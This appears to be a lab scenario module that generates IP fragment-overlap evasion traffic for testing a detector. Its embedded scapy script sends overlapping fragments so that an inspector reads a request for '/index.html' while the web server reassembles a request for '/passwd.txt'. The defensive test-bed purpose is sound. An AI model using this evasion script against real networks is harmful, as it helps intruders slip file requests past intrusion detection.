"""A request to a web server in fragments of which an inspector and the server read different octets."""

from lab.range import Range
from lab.scenario import Scenario

# Novak's and Ptacek's evasion: the harmless octets come first, the others overlap them.
EVASION = """
import sys, time
target = sys.argv[1]
for number in range(6):
    harmless = b"GET /index.html HTTP/1.0\\r\\nX-Pad: " + b"x" * 40 + b"\\r\\n\\r\\n"
    harmful = b"GET /passwd.txt HTTP/1.0\\r\\nX-Pad: " + b"x" * 40 + b"\\r\\n\\r\\n"
    header = bytes(UDP(sport=40000 + number, dport=8080, len=8 + len(harmless), chksum=0))
    one, other = header + harmless, header + harmful
    pieces = [(0, one[:24], 1), (8, other[8:32], 1), (24, one[24:48], 1), (48, one[48:], 0)]
    for offset, octets, more in pieces:
        flags = "MF" if more else 0
        send(IP(dst=target, id=9000 + number, flags=flags, frag=offset // 8, proto=17) / Raw(octets))
    time.sleep(0.4)
"""


def run(net: Range) -> None:
    attacker, web = net.outside("attacker"), net.web()
    net.everyday()
    with net.attack(
        "fragment-overlap",
        by=attacker,
        victims=[web],
        frames=f"ip dst host {web.ip} and ip[6:2] & 0x3fff != 0",
    ):
        net.scapy(attacker, EVASION, web.ip)
    net.quiet(3)


SCENARIO = Scenario(
    name="fragment-overlap-evasion",
    about="From outside come six datagrams in fragments that say two different things in the same place.",
    detectors=("fragment-overlap",),
    tools={"scapy": "python3-scapy"},
    run=run,
)
